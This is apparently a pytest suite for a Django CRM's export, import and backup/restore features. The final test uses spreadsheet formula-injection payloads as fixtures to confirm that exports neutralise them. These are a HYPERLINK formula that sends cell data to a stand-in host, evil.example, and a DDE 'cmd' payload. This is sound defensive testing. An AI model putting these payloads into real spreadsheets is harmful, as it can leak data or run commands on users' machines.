"""Export (visibility, CSV/XLSX, round trip through import) and dump/restore (same reports)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.analytics.scenarios import random_history
from tests.factories import make_company, make_deal
from voronka.accounts.models import User
from voronka.crm.services import contact_create
from voronka.deals.models import Deal, Transition
from voronka.deals.services import deal_contact_attach
from voronka.imports.backup import RestoreError, dump, restore
from voronka.imports.exporting import export_to
from voronka.imports.mapping import guess_mapping
from voronka.imports.reading import read_table
from voronka.imports.services import import_file
from voronka.pipelines.models import CustomField


def export_text(kind, user, fmt="csv"):
    out = io.BytesIO()
    export_to(out, kind=kind, fmt=fmt, user=user)
    return out.getvalue()


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_export_respects_visibility(pipeline, manager, manager2, admin):
    make_deal(pipeline, manager, title="Mine")
    make_deal(pipeline, manager2, title="Theirs")
    titles = [r[1] for r in rows(export_text("deals", manager))[1:]]
    assert titles == ["Mine"]
    assert len(rows(export_text("deals", admin))) == 3
    kinds = [r[3] for r in rows(export_text("transitions", manager))[1:]]
    assert kinds == ["created"]
    book = load_workbook(io.BytesIO(export_text("deals", manager, "xlsx")))
    sheet = list(book.active.iter_rows(values_only=True))
    assert sheet[0][:3] == ("id", "title", "pipeline") and sheet[1][1] == "Mine"


@pytest.mark.django_db
def test_round_trip_export_import_export(tmp_path, pipeline, stages, manager, admin):
    CustomField.objects.create(pipeline=pipeline, code="region", name="Регион", kind="text")
    company = make_company(admin, name="ООО Ромашка", inn="7707083893", owner=manager)
    anna = contact_create(actor=admin, full_name="Анна", phones=["+79161234567"],
                          emails=["anna@example.com"], company=company, owner=manager)
    d1 = make_deal(pipeline, manager, title="Первая", budget="1500.50", company=company,
                   custom_fields={"region": "Москва"}, source="Сайт",
                   utm={"utm_source": "yandex"})
    deal_contact_attach(deal=d1, contact=anna, actor=admin)
    make_deal(pipeline, manager, title="Вторая",
              expected_close_date=datetime.date(2025, 6, 1))
    from voronka.deals.services import deal_archive
    lost = make_deal(pipeline, manager, title="Третья")
    deal_archive(deal=lost, actor=manager, reason=pipeline.loss_reasons.first())
    first = {k: export_text(k, admin) for k in ("deals", "contacts", "companies")}
    for kind in ("deals", "contacts", "companies"):
        (tmp_path / f"{kind}.csv").write_bytes(first[kind])
    Deal.objects.all().delete()
    from voronka.crm.models import Company, Contact

    Contact.objects.all().delete()
    Company.objects.all().delete()
    for kind in ("companies", "contacts", "deals"):
        path = tmp_path / f"{kind}.csv"
        mapping = guess_mapping(kind, read_table(path).header, "template", ["region"])
        result = import_file(actor=admin, kind=kind, path=path, mapping=mapping,
                             source="voronka", pipeline=pipeline)
        assert result["status"] == "done", result["rejected"]
    for kind in ("deals", "contacts", "companies"):
        again = rows(export_text(kind, admin))
        before = rows(first[kind])
        # Ids are new; everything else is the same.
        assert [r[1:] for r in again] == [r[1:] for r in before], kind


def report_snapshot(user, pipeline_ids):
    from voronka.analytics.dynamics import dynamics_report
    from voronka.analytics.funnel import funnel_report
    from voronka.analytics.losses import losses_report
    from voronka.analytics.managers import managers_report
    from voronka.analytics.query import Filters
    from voronka.analytics.timing import timing_report

    out = []
    for pid in pipeline_ids:
        for mode in ("cohort", "flow"):
            f = Filters(pipeline_id=pid, date_from=datetime.date(2020, 1, 1),
                        date_to=datetime.date(2030, 12, 31), mode=mode)
            for report in (funnel_report, losses_report, managers_report, timing_report,
                           dynamics_report):
                out.append(repr(report(user=user, filters=f)[1]))
    return out


@pytest.mark.django_db(transaction=True)
def test_dump_restore_gives_identical_reports(tmp_path, team, manager, manager2, admin):
    pipeline = random_history(7, team, [manager, manager2], admin, deals=20, steps=80)
    before = report_snapshot(admin, [pipeline.pk])
    counts = (Deal.objects.count(), Transition.objects.count())
    path = tmp_path / "backup.zip"
    dump(path)
    with pytest.raises(RestoreError):
        restore(path)  # never over existing data
    call_command("flush", interactive=False, verbosity=0)
    assert Deal.objects.count() == 0
    restore(path)
    assert (Deal.objects.count(), Transition.objects.count()) == counts
    admin = User.objects.get(pk=admin.pk)
    assert admin.check_password("pass12345")
    assert report_snapshot(admin, [pipeline.pk]) == before
    with pytest.raises(RestoreError):
        restore(tmp_path / "nope.zip")


@pytest.mark.django_db
def test_exports_never_carry_a_formula_and_import_back_unchanged(tmp_path, pipeline, manager,
                                                                   admin):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_deal(pipeline, manager, title=hostile, source="+cmd|' /C calc'!A0",
              utm={"utm_campaign": "@SUM(1+1)"}, budget="100")
    data = export_text("deals", admin)
    row = rows(data)[1]
    assert row[1] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)
    book = load_workbook(io.BytesIO(export_text("deals", admin, "xlsx")))
    cells = list(book.active.iter_rows())[1]
    assert cells[1].value == hostile and cells[1].data_type == "s"  # text, not a formula
    assert all(c.data_type != "f" for c in cells)
    path = tmp_path / "deals.csv"
    path.write_bytes(data)
    Deal.objects.all().delete()
    mapping = guess_mapping("deals", read_table(path).header, "template", [])
    result = import_file(actor=admin, kind="deals", path=path, mapping=mapping,
                         source="voronka", pipeline=pipeline)
    assert result["status"] == "done", result["rejected"]
    deal = Deal.objects.get()
    assert (deal.title, deal.source, deal.utm_campaign) == (
        hostile, "+cmd|' /C calc'!A0", "@SUM(1+1)")
